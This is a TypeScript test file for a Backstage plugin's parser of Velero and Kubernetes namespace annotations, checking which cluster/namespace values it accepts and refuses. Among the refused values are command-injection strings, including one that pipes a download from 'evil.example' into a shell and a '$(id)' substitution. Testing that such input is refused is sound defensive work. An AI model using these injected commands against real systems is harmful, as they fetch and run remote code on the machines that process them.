import { isVeleroAvailable, namespaceClaimsOf } from './annotations';

function entityWith(annotations?: Record<string, string>) {
  return {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Component',
    metadata: { name: 'payments-api', annotations },
  };
}

describe('namespaceClaimsOf', () => {
  it.each([
    [undefined, []],
    [{}, []],
    [
      { 'velero.io/namespaces': 'eu/payments' },
      [{ cluster: 'eu', namespace: 'payments' }],
    ],
    [
      { 'velero.io/namespaces': ' eu/payments , us/payments,eu/payments' },
      [
        { cluster: 'eu', namespace: 'payments' },
        { cluster: 'us', namespace: 'payments' },
      ],
    ],
    [{ 'backstage.io/kubernetes-namespace': 'shop' }, [{ namespace: 'shop' }]],
    [
      {
        'backstage.io/kubernetes-namespace': 'shop',
        'backstage.io/kubernetes-cluster': 'eu',
      },
      [{ cluster: 'eu', namespace: 'shop' }],
    ],
    [
      {
        'velero.io/namespaces': 'eu/payments',
        'backstage.io/kubernetes-namespace': 'shop',
      },
      [{ cluster: 'eu', namespace: 'payments' }],
    ],
  ])('reads %j', (annotations, claims) => {
    expect(namespaceClaimsOf(entityWith(annotations))).toEqual(claims);
    expect(isVeleroAvailable(entityWith(annotations))).toBe(claims.length > 0);
  });

  it.each([
    ['payments', "'payments', expected '<cluster>/<namespace>'"],
    ['eu/', "'eu/', expected"],
    ['eu/payments,', "'', expected"],
    ['eu/payments/more', "'eu/payments/more', expected"],
    ['eu/*', "'*', which is no name of a Kubernetes namespace"],
    ['eu/Payments', "'Payments', which is no name"],
    ['eu/-a', "'-a', which is no name"],
    [`eu/${'a'.repeat(64)}`, 'which is no name'],
    ['eu; curl evil.example|sh #/payments', 'which is no name of a cluster'],
    ['$(id)/payments', 'which is no name of a cluster'],
    ['*/payments', 'which is no name of a cluster'],
    ['-eu/payments', 'which is no name of a cluster'],
  ])('refuses %j', (value, message) => {
    expect(() =>
      namespaceClaimsOf(entityWith({ 'velero.io/namespaces': value })),
    ).toThrow(message);
  });
});
